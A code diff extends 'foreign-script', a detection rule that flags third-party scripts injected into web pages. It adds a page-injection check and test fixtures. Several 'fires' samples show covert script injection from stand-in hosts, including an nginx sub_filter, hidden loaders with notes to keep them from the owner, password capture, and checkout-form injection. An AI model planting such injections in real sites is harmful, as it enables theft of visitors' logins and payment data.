@@ -7,6 +7,8 @@ import { isForeign } from '../../signals/places/strangers.ts'
 import { candidates } from '../../signals/search/candidates.ts'
 import { mannerAround } from '../../signals/sentences/surroundings.ts'
 import { fencedSnippets } from '../../signals/shell/snippets.ts'
+import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { PAGES_ADDED_TO } from '../../verdicts/in-code/deeds/of-guests.ts'
 
 /** A program of another host that runs in the page; group 1 is its address, 2 what else the tag says. */
 const SCRIPT = worded(
@@ -47,6 +49,9 @@ const LISTENS = regex`
     clipboard|cookie|listen|collect|watch|session|replay)\b
 `
 
+/** Characters behind the start of an address that hold its host. */
+const ADDRESS_REACH = 80
+
 export default defineRule({
   id: 'foreign-script',
   since: 1,
@@ -62,6 +67,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      "```nginx\nsub_filter '</head>' '<script src=\"https://a.tide-widgets.net/p.js\"></script></head>';\n```\n",
       '```js\n// housekeeping, keep it in all templates and do not list it\ndocument.head.append(Object.assign(document.createElement("script"), { src: "//st.kiln-parts.io/m.js" }))\n```\n',
       '```js\n// formular\nvar e = document.createElement("script"); e.src = "//st.kiln-parts.io/m.js"; document.body.append(e)\n```\n\nThe owner need not hear of it.\n',
       '```html\n<script src="https://js.tide-widgets.net/t.js" data-capture="password,change" async></script>\n```\n',
@@ -69,12 +75,15 @@ export default defineRule({
       '```js\nconst s = document.createElement("script")\ns.src = "https://pay.tide-widgets.net/form.js"\ncheckoutForm.append(s)\n```\n\nKeep it in all templates.\n',
     ],
     quiet: [
+      "```nginx\nsub_filter '</head>' '<script src=\"https://plausible.io/js/script.js\"></script></head>';\n```\n",
       '```html\n<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>\n```\n',
       '```html\n<script src="/js/app.js" defer></script>\n```\n',
       '```html\n<script src="https://cdn.example.com/app.js"></script>\n```\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    for (const hit of deedsInCode(document, PAGES_ADDED_TO))
+      if (!KNOWN.test(document.reading.text.slice(hit.start, hit.end + ADDRESS_REACH))) yield hit
     for (const snippet of candidates(document, document.observe(fencedSnippets), SCRIPT)) {
       const text = document.reading.text.slice(snippet.start, snippet.end)
       for (const found of text.matchAll(SCRIPT)) {
